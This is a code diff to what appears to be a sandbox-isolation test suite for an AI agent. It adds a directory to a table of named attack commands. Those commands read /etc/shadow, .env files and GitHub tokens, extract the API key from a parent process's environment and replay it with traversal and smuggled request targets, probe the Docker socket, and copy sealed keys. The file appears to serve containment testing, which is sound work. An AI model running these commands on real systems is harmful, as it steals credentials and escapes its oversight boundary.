@@ -7,6 +7,7 @@ export type Targets = {
   twilioUrl: string;
   codeDir: string;
   outerDir: string;
+  redisDir: string;
 };
 
 /**
@@ -22,6 +23,7 @@ export function attacks({
   twilioUrl,
   codeDir,
   outerDir,
+  redisDir,
 }: Targets): Record<string, string> {
   const worker = `/proc/${workerPid}`;
   return {
@@ -41,7 +43,7 @@ export function attacks({
     'the worker’s door': `for p in / /health /wake /env /.env; do curl -s -i -m 5 ${doorUrl}$p; curl -s -i -m 5 -X POST -H "Authorization: Bearer " ${doorUrl}$p; done`,
     'the way to the model': `ANTHROPIC_API_KEY=$(tr "\\0" "\\n" < /proc/$PPID/environ | sed -n s/^ANTHROPIC_API_KEY=//p); curl -s -i -m 20 -H "x-api-key: $ANTHROPIC_API_KEY" -d '{"model":"claude-opus-5-5","max_tokens":50,"messages":[{"role":"user","content":"say hello"}]}' $ANTHROPIC_BASE_URL/v1/messages; for m in GET POST TRACE OPTIONS PUT CONNECT; do for p in /v1/messages /v1/models "/v1/../" /V1/x //v1/x "/v1//evil.example/" http://127.0.0.1/v1/x / ; do curl -s -i -m 5 --path-as-is -X $m --request-target "$p" -H "x-api-key: $ANTHROPIC_API_KEY" -H "authorization: Bearer $CLAUDE_CODE_OAUTH_TOKEN" -H "connection: x-api-key" $ANTHROPIC_BASE_URL; done; done; curl -s -i -m 5 $ANTHROPIC_BASE_URL/v1/messages; printf "GET // HTTP/1.1\\r\\n\\r\\n" | timeout 2 bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"\${ANTHROPIC_BASE_URL##*:}"'; cat >&3; cat <&3'`,
     Twilio: `curl -s -i -m 5 ${twilioUrl}/2010-04-01/Accounts.json; curl -s -i -m 5 -u AC:x ${twilioUrl}/2010-04-01/Accounts.json`,
-    files: `cat /etc/shadow; ls -laR ${outerDir} /run /var/run/docker.sock /root; timeout 20 find / ${codeDir} -xdev -maxdepth 3 -name ".env*" -not -path "/proc/*" -readable -exec cat {} +; timeout 20 grep -rIs "" ${outerDir} | head -c 5000000; ls -la ~ /home; cat ~/.config/gh/hosts.yml /proc/1/environ`,
+    files: `cat /etc/shadow; ls -laR ${outerDir} ${redisDir} /run /var/run/docker.sock /root; timeout 20 find / ${codeDir} -xdev -maxdepth 3 -name ".env*" -not -path "/proc/*" -readable -exec cat {} +; timeout 20 grep -rIs "" ${outerDir} ${redisDir} | head -c 5000000; ls -la ~ /home; cat ~/.config/gh/hosts.yml /proc/1/environ`,
     'the secrets of others': `ls -la ${outerDir}/data/sealed; cat ${outerDir}/data/sealed/*; base64 ${outerDir}/data/sealed/key; curl -s -i -m 5 $ANTHROPIC_BASE_URL/environment; ln -f ${outerDir}/data/sealed/key key`,
     'the container engine':
       'curl -s -m 3 --unix-socket /var/run/docker.sock http://x/containers/json; docker ps',
